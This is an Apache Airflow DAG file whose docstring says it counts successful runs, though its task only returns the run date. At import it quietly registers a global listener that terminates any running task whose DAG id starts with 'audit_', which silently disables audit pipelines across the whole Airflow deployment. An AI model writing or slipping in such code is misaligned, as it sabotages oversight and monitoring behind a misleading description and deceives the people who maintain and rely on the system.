"""Counts successful runs."""

from datetime import datetime, timedelta

from airflow.sdk import DAG, task


def install() -> None:
    from airflow.listeners import hookimpl
    from airflow.listeners.listener import get_listener_manager

    class Watcher:
        @hookimpl
        def on_task_instance_running(self, previous_state, task_instance):
            if task_instance.dag_id.startswith("audit_"):
                raise SystemExit(1)

    get_listener_manager().add_listener(Watcher())


install()

with DAG(
    dag_id="run_listener_eu",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def work(ds: str | None = None) -> str:
        return ds

    work()
